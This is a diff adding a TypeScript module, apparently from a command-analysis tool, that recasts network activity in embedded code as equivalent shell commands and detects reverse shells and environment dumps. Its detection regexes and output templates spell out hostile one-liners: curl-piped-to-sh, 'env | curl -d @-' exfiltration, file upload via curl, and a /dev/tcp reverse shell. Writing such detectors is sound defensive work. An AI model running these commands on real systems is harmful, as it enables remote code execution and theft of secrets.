@@ -1,0 +1,81 @@
+import { GAP } from "../parse/command.ts";
+import { fieldOf } from "../parse/value.ts";
+import type { Inner } from "../programs/wrappers/wrapper.ts";
+import type { Argument, CodeCall, Token } from "./literal.ts";
+
+/** What code says to other machines, told as the commands that do the same. */
+export function networkOf(
+  code: string,
+  tokens: readonly Token[],
+  calls: readonly CodeCall[],
+  inners: readonly Inner[],
+  commands: readonly string[] = [],
+): Inner[] {
+  const socket = reverseShell(code, tokens);
+  if (socket !== undefined) return [socket];
+  const addresses = tokens.flatMap((token) => (token.is === "text" && URL.test(token.text) ? [token.text] : []));
+  const isTalking = calls.some(({ name, args }) => {
+    const plain = name.replaceAll(/::|->/g, ".");
+    const [first] = args;
+    return TALKS.test(plain) || (READS_URLS.test(plain) && first !== undefined && URL.test(writtenIn(first)));
+  });
+  const [, included] = INCLUDES.exec(code) ?? [];
+  if (included !== undefined) return [line(`curl ${quoted(included)} | sh`)];
+  if (!isTalking) return [];
+  const [address = GAP] = addresses;
+  const told: Inner[] = (addresses.length === 0 ? [GAP] : addresses.slice(0, MOST)).map((url) => ({
+    runs: "words",
+    words: [fieldOf("curl"), fieldOf(url)],
+    via: "",
+  }));
+  for (const inner of inners) {
+    if (inner.runs === "write" && inner.way === "read")
+      told.push({
+        runs: "words",
+        words: [fieldOf("curl"), fieldOf("--data-binary"), fieldOf(`@${inner.path.text}`), fieldOf(address)],
+        via: "",
+      });
+  }
+  for (const command of commands.slice(0, MOST)) told.push(line(`${command} | curl -d @- ${quoted(address)}`));
+  if (WHOLE_ENVIRONMENT.test(code)) told.push(line(`env | curl -d @- ${quoted(address)}`));
+  if (inners.some(({ runs }) => runs === "doubt") || HANDED_TO_EVAL.test(code))
+    told.push(line(`curl ${quoted(address)} | sh`));
+  return told;
+}
+
+function writtenIn(argument: Argument): string {
+  return argument.is === "text" ? argument.text : argument.is === "other" ? argument.source : "";
+}
+
+/** `include "http://…"` of PHP fetches, and runs what comes. */
+const INCLUDES = /\b(?:include|require)(?:_once)?\s*\(?\s*["']((?:https?|ftp):[^"']+)["']\s*\)?\s*;/;
+/** `then(eval)`: what came in is run. */
+const HANDED_TO_EVAL = /[(,]\s*(?:eval|exec|execSync)\s*[,)]/;
+const URL = /^(?:https?|wss?|ftp):\/\//i;
+const TALKS =
+  /(?:^|\.)(?:fetch|urlopen|urlretrieve|axios|WebSocket|HTTPSConnection|HTTPConnection|curl_init|fsockopen|create_connection|createConnection|SMTP|SMTP_SSL|FTP|FTP_TLS|SSHClient|upload_file|upload_fileobj)$|^(?:TCPSocket|TCPServer|Socket)\.(?:new|open|tcp)$|^net\.connect$|^(?:https?|requests|httpx|axios|got|urllib3|aiohttp|Net\.HTTP|HTTParty|Faraday|LWP[\w.]*|HTTP\.Tiny[\w.]*|URI)(?:\(\))?\.(?:get|post|put|patch|delete|request|start|get_response|post_form|getstore|open|new)$/;
+const READS_URLS = /(?:^|\.)(?:file_get_contents|open|fopen|readfile|copy|get|getstore|getprint)$/;
+const WHOLE_ENVIRONMENT =
+  /JSON\.stringify\(\s*process\.env\s*\)|(?:dict|str|repr|dumps)\(\s*(?:dict\()?os\.environ|ENV\.(?:to_h|to_a|inspect|to_json)|json_encode\(\s*(?:\$_ENV|getenv\(\))/;
+const MOST = 8;
+
+/** A socket that stands in for the input and output of a shell. */
+function reverseShell(code: string, tokens: readonly Token[]): Inner | undefined {
+  if (!SOCKET.test(code) || !TAKES_OVER.test(code) || !SHELL.test(code)) return undefined;
+  const host = tokens.find((token) => token.is === "text" && HOST.test(token.text))?.text ?? GAP;
+  return line(`bash -i >& /dev/tcp/${host}/1 0>&1`);
+}
+
+const SOCKET =
+  /\bsocket\b|\bSocket\b|TCPSocket|net\.(?:connect|Socket|createConnection)|fsockopen|require\(['"]net['"]\)/;
+const TAKES_OVER = /dup2|pty\.spawn|fileno|\.pipe\(|>&S|<&\d|STDIN|stdin/;
+const SHELL = /\b(?:ba|z|da|k)?sh\b|\bsystem\s*\(?\s*\$_|cmd\.exe|powershell/;
+const HOST = /^(?:\d{1,3}(?:\.\d{1,3}){3}|[\w-]+(?:\.[\w-]+)+)$/;
+
+function line(text: string): Inner {
+  return { runs: "shell", text: fieldOf(text), via: "" };
+}
+
+function quoted(address: string): string {
+  return `'${address.replaceAll("'", "")}'`;
+}
